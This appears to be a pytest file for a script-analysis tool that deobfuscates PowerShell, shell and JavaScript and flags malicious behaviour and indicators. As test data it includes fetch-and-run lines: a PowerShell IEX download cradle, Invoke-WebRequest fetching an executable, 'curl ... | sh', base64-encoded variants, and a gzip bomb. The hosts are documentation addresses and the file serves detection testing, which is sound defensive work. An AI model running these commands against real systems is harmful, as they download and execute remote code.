"""The analyzer end to end: the response's fields, budgets, decoding of bytes, hostile input.

Every script here is synthetic, written for these tests; addresses are documentation ranges.
"""

from __future__ import annotations

import base64
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from wingman.core.models import AnalyzeScriptRequest, ScriptLanguage, Verdict
from wingman.core.scripts.analyze import ScriptAnalyzer, default_analyzer
from wingman.core.scripts.peelers import Peeler
from wingman.core.scripts.rules.engine import RuleSet
from wingman.core.scripts.types import Budget, Decoded

ANALYZER = default_analyzer()
CRADLE = (
    'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient)'
    ".DownloadString('http://198.51.100.23/stage.ps1')\""
)


def analyze(content: str, **fields: object) -> object:
    request = AnalyzeScriptRequest(content=content, **fields)  # type: ignore[arg-type]
    return ANALYZER(request, deadline=time.monotonic() + 10)


def encoded(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


def test_download_cradle_is_malicious_with_evidence_and_attack() -> None:
    response = analyze(CRADLE, language=ScriptLanguage.AUTO)
    assert response.verdict in {Verdict.MALICIOUS, Verdict.SUSPICIOUS}
    assert response.score >= 30
    assert response.language is ScriptLanguage.POWERSHELL
    assert response.language_confidence is not None
    assert any(ioc.value == "http://198.51.100.23/stage.ps1" for ioc in response.iocs)
    assert response.behaviors
    for behavior in response.behaviors:
        assert behavior.evidence
        for evidence in behavior.evidence:
            layer = response.deobfuscation_layers[evidence.layer].content
            assert evidence.text in layer
    assert {t.id for t in response.attack_techniques} >= {"T1059.001"}
    assert all(t.name and t.tactics for t in response.attack_techniques)
    assert response.explanation
    assert response.summary.startswith("A PowerShell script of 1 line.")
    assert response.truncated is False


def test_encoded_command_is_a_layer_whose_iocs_point_at_it() -> None:
    inner = "Invoke-WebRequest -Uri http://203.0.113.5/p.exe -OutFile $env:TEMP\\p.exe"
    response = analyze(f"powershell.exe -EnCoDeDcOmMaNd {encoded(inner)}")
    techniques = [layer.technique for layer in response.deobfuscation_layers]
    assert techniques[0] == "input"
    assert "powershell_encoded_command" in techniques
    layer = techniques.index("powershell_encoded_command")
    assert response.deobfuscation_layers[layer].content == inner
    assert response.deobfuscation_layers[layer].parent_span.line == 1
    url = next(ioc for ioc in response.iocs if ioc.type.value == "url")
    assert url.value == "http://203.0.113.5/p.exe"
    assert url.layer == layer


def test_the_language_given_is_used_without_a_confidence() -> None:
    response = analyze("echo hello", language=ScriptLanguage.BASH)
    assert response.language is ScriptLanguage.BASH
    assert response.language_confidence is None


def test_benign_text_is_benign_and_says_so() -> None:
    response = analyze("def add(a, b):\n    return a + b\n\nprint(add(1, 2))\n")
    assert response.verdict is Verdict.BENIGN
    assert response.score < 30
    assert "No suspicious behaviour was found." in response.summary
    assert response.reasons == ("no suspicious behaviour found in any layer",)


def test_whitespace_only_content_is_unknown() -> None:
    assert analyze("   \n\t").verdict is Verdict.UNKNOWN


def test_bytes_that_are_not_utf8_are_replaced_with_a_warning() -> None:
    raw = b"echo caf\xe9 && curl http://198.51.100.40/x.sh | sh\n"
    request = AnalyzeScriptRequest(content_base64=raw)
    response = ANALYZER(request, deadline=time.monotonic() + 10)
    assert "\ufffd" in response.deobfuscation_layers[0].content
    assert any("not UTF-8" in warning for warning in response.warnings)
    assert any(ioc.value == "http://198.51.100.40/x.sh" for ioc in response.iocs)


def test_utf16_with_a_bom_is_decoded() -> None:
    raw = "\ufeffWrite-Host 'hello'".encode("utf-16-le")
    response = ANALYZER(AnalyzeScriptRequest(content_base64=raw), deadline=time.monotonic() + 10)
    assert response.deobfuscation_layers[0].content == "Write-Host 'hello'"


def slow_peeler(text: str, budget: Budget) -> list[Decoded]:
    # A peeler that keeps finding "new" layers until the budget stops it.
    budget.check_time()
    time.sleep(0.01)
    return [Decoded("toy_slow", text + " x", 0, len(text))]


def test_time_budget_gives_a_partial_result_that_still_judges() -> None:
    analyzer = ScriptAnalyzer(
        peelers={"toy_slow": Peeler("toy_slow", "rewrite", slow_peeler, weight=0)},
        rules=ANALYZER.rules,
        attack=ANALYZER.attack,
    )
    request = AnalyzeScriptRequest(content=CRADLE)
    response = analyzer(request, deadline=time.monotonic() + 0.5)
    assert response.truncated is True
    assert response.truncated_reason
    # Rules ran on what was decoded before the peelers ran out of time.
    assert response.behaviors
    assert response.score >= 30


@pytest.mark.parametrize(
    "hostile",
    [
        "A" * 100_000,  # one 100k-character line
        "aGVsbG8g" * 40_000,  # base64 that decodes to itself-like text, over and over
        ("(" * 5_000) + "x" + (")" * 5_000),
        "iex " * 30_000,
        '"+"' * 30_000,
        "%a:~1,2%" * 20_000,
        "\\x41" * 30_000,
        "String.fromCharCode(" * 10_000,
    ],
    ids=["long-line", "base64-run", "nesting", "iex", "concat", "substrings", "hex", "calls"],
)
def test_hostile_input_finishes_within_the_budget(hostile: str) -> None:
    response = analyze(hostile)
    assert response.verdict in set(Verdict)


def test_nested_base64_layers_stop_at_the_layer_limit() -> None:
    text = "echo done"
    for _ in range(80):
        text = f"powershell -enc {encoded(text)}"
        if len(text) > 200_000:
            break
    response = analyze(text)
    assert len(response.deobfuscation_layers) <= 65
    assert response.verdict in set(Verdict)


def test_gzip_bomb_is_refused_by_the_inflate_bound() -> None:
    import gzip

    bomb = base64.b64encode(gzip.compress(b"A" * 50_000_000)).decode()
    response = analyze(f"$d = [Convert]::FromBase64String('{bomb}')")
    assert sum(len(layer.content) for layer in response.deobfuscation_layers) < 10_000_000


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=400), st.sampled_from(list(ScriptLanguage)))
def test_no_exception_escapes_any_text(text: str, language: ScriptLanguage) -> None:
    response = analyze(text, language=language)
    assert 0 <= response.score <= 100
    assert response.deobfuscation_layers[0].technique == "input"


@settings(max_examples=40, deadline=None)
@given(st.binary(max_size=300))
def test_no_exception_escapes_any_bytes(raw: bytes) -> None:
    response = ANALYZER(AnalyzeScriptRequest(content_base64=raw), deadline=time.monotonic() + 10)
    assert 0 <= response.score <= 100


def test_answers_are_deterministic() -> None:
    first = analyze(CRADLE).model_dump(exclude={"runtime"})
    second = analyze(CRADLE).model_dump(exclude={"runtime"})
    assert first == second


def test_an_analyzer_without_rules_or_peelers_still_answers() -> None:
    bare = ScriptAnalyzer(peelers={}, rules=RuleSet(()), attack=ANALYZER.attack)
    response = bare(AnalyzeScriptRequest(content=CRADLE), deadline=time.monotonic() + 5)
    assert response.behaviors == ()
    assert any(ioc.type.value == "url" for ioc in response.iocs)


_IOC_PIECES = [
    "http://198.51.100.4/a",
    "hxxps://evil[.]example[.]net/x",
    "203.0.113[.]9",
    "user@example.org",
    "C:\\Users\\Public\\a.exe",
    "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    "d41d8cd98f00b204e9800998ecf8427e",
    "2001:db8::7",
    "powershell -enc " + encoded("iwr http://192.0.2.10/p"),
    "fso.GetFile",
    "a.b.c",
]


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(_IOC_PIECES), min_size=1, max_size=6), st.text(max_size=30))
def test_every_indicator_occurs_in_the_layer_it_names(pieces: list[str], noise: str) -> None:
    from wingman.core.scripts.iocs import refang

    response = analyze(noise + " " + " ; ".join(pieces))
    for ioc in response.iocs:
        layer = response.deobfuscation_layers[ioc.layer].content
        assert ioc.value.lower() in refang(layer).lower(), (ioc, layer)
        line = refang(layer.split("\n")[ioc.line - 1]).lower()
        assert ioc.value.lower() in line


def test_decoded_text_in_an_answer_is_bounded() -> None:
    from wingman.core.scripts.report import layers_out
    from wingman.core.scripts.types import Lang, Layer

    layers = [Layer(0, "input", "a" * 10, Lang.BASH), Layer(1, "t", "b" * 10, Lang.BASH, 0)]
    out, notes = layers_out(layers, max_chars=15)
    assert [layer.content for layer in out] == ["a" * 10, "b" * 5]
    assert notes
    assert notes[0].startswith("layer 1 was cut")
    assert layers_out(layers, max_chars=20)[1] == []


def test_intermediate_rewrites_are_not_searched_again() -> None:
    from wingman.core.scripts.language import detect_language
    from wingman.core.scripts.layers import peel, superseded

    text = 'var u = "ht" + "tp://198.51.100.70/" + "p" + "." + "exe"; eval("x" + "y" + u);'
    layers, _ = peel(
        text,
        detect_language(text)[0],
        peelers=ANALYZER.peelers,
        budget=Budget(time.monotonic() + 60),
    )
    skipped = superseded(layers)
    response = analyze(text)
    assert all(ioc.layer not in skipped for ioc in response.iocs)
    assert all(e.layer not in skipped for b in response.behaviors for e in b.evidence)
    assert any(ioc.value == "http://198.51.100.70/p.exe" for ioc in response.iocs)


def test_superseded_names_the_layers_a_rewrite_carried_further() -> None:
    from wingman.core.scripts.layers import superseded
    from wingman.core.scripts.types import Lang, Layer

    layers = [
        Layer(0, "input", "a", Lang.BASH),
        Layer(1, "r1", "b", Lang.BASH, 0, rewrite=True),
        Layer(2, "r2", "c", Lang.BASH, 1, rewrite=True),
        Layer(3, "x", "d", Lang.BASH, 2),
    ]
    # The input is always searched; r1 was carried on by r2; r2 only had an extract.
    assert superseded(layers) == {1}
